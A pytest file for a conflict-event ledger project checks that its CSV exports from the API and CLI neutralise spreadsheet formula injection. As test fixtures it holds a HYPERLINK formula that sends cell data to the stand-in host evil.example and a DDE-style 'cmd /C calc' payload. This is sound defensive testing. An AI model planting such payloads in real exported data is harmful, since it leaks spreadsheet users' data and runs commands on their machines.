"""Formula injection in CSV (issue 15, item 5): third-party text never starts a formula.

A spreadsheet runs a cell that starts with = + - @, a tab or a carriage return as a formula
(OWASP, "CSV Injection"). Every CSV the product writes goes through one writer
(``export.CsvWriter``), which puts an apostrophe before such a text cell and leaves numbers as
they are.
"""
from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from ceasefire import acled, export
from ceasefire.cli import app as cli
from ceasefire.serve import create_app

FORMULA = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
OUTLET = '=HYPERLINK("http://evil.example/?"&A1,"Reuters")'
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
runner = CliRunner()


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _live_formulas(text: str) -> list[str]:
    """The cells a spreadsheet would run: they start like a formula and are not a number."""
    return [c for c in _cells(text) if FORMULA.match(c) and not NUMBER.fullmatch(c)]


@pytest.mark.parametrize("value", [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", OUTLET, "-", "-3 drones"])
def test_a_text_cell_that_starts_a_formula_gets_an_apostrophe(value: str) -> None:
    text = export.rows_as_text([{"outlet": value}], "csv")
    assert _cells(text) == ["outlet", "'" + value]


@pytest.mark.parametrize("value", [-3, -1.5, 0, "-3", "+2", "-1.5e3", "-.5", None, "Kyiv",
                                   "Kyiv = capital", "1-2"])
def test_numbers_and_ordinary_text_are_left_as_they_are(value: object) -> None:
    text = export.rows_as_text([{"value": value}], "csv")
    assert _cells(text) == ["value", "" if value is None else str(value)]


def test_acled_rows_keep_acled_s_columns_and_numbers() -> None:
    # a row shaped as ACLED's, with negative coordinates and hostile notes: the header is
    # ACLED's 31 columns, the numbers stay numbers, so it still appends to an ACLED file
    row = {name: None for name in acled.COLUMNS} | {
        "latitude": -33.9249, "longitude": -18.4241, "fatalities": 3, "inter1": 1,
        "notes": "-3 killed =1+1", "source": OUTLET}
    [header, cells] = list(csv.reader(io.StringIO(
        export.rows_as_text([row], "csv", export.ACLED_COLUMNS))))
    assert header == list(acled.COLUMNS)
    got = dict(zip(header, cells, strict=True))
    assert (got["latitude"], got["longitude"], got["fatalities"]) == ("-33.9249", "-18.4241", "3")
    assert (got["notes"], got["source"]) == ("'-3 killed =1+1", "'" + OUTLET)


@pytest.fixture(scope="module")
def hostile_ledger(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A ledger of one report whose outlet and title are formulas."""
    folder = tmp_path_factory.mktemp("reports")
    (folder / "evil.json").write_text(json.dumps({
        "id": "evil", "published": "2025-08-11", "source": OUTLET, "title": TITLE,
        "text": "Russia launched 95 drones at Ukraine overnight, and air defences shot down "
                "71 of them, Ukraine's air force said. A drone hit an apartment building in "
                "Sumy, killing three people, regional governor Oleh Hryhorov said."}))
    db = str(tmp_path_factory.mktemp("ledger") / "ledger.duckdb")
    result = runner.invoke(cli, ["ingest", str(folder), "--db", db])
    assert result.exit_code == 0, result.output
    return db


def test_no_csv_of_the_api_holds_a_live_formula(hostile_ledger: str) -> None:
    client = TestClient(create_app(hostile_ledger))
    [event] = client.get("/api/events").json()["items"]
    paths = ["/api/documents", "/api/events", f"/api/events/{event['event']}", "/api/strikes",
             "/api/agreements", "/api/terms", "/api/violations", "/api/exchanges",
             "/api/talks", "/api/timeline", "/api/places"]
    texts = {}
    for path in paths:
        answer = client.get(path, params={"format": "csv"})
        assert answer.status_code == 200, (path, answer.text)
        texts[path] = answer.text
        assert _live_formulas(answer.text) == [], path
    assert "'" + OUTLET in _cells(texts["/api/documents"])
    assert "'" + TITLE in _cells(texts["/api/documents"])
    assert "'" + OUTLET in _cells(texts[f"/api/events/{event['event']}"])  # the claims


@pytest.mark.parametrize("args", [["export", "--format", "csv"], ["export", "--format", "acled"],
                                  ["events", "--format", "csv"], ["timeline", "--format", "csv"]])
def test_no_csv_of_the_cli_holds_a_live_formula(hostile_ledger: str, args: list[str]) -> None:
    result = runner.invoke(cli, [*args, "--db", hostile_ledger])
    assert result.exit_code == 0, result.output
    assert _cells(result.stdout) and _live_formulas(result.stdout) == []


def test_the_claims_csv_of_the_cli_neutralises_the_outlet(hostile_ledger: str) -> None:
    [event] = [json.loads(line) for line in runner.invoke(
        cli, ["events", "--db", hostile_ledger, "--format", "jsonl"]).stdout.splitlines()]
    result = runner.invoke(cli, ["claims", event["event"], "--db", hostile_ledger,
                                 "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert _live_formulas(result.stdout) == [] and "'" + OUTLET in _cells(result.stdout)


def test_acled_export_appends_to_an_acled_file(hostile_ledger: str, tmp_path: Path) -> None:
    result = runner.invoke(cli, ["export", "--format", "acled", "--db", hostile_ledger])
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows and list(rows[0]) == list(acled.COLUMNS)
    for row in rows:
        assert row["source"] == "'" + OUTLET
        float(row["latitude"]), int(row["fatalities"]), int(row["timestamp"])
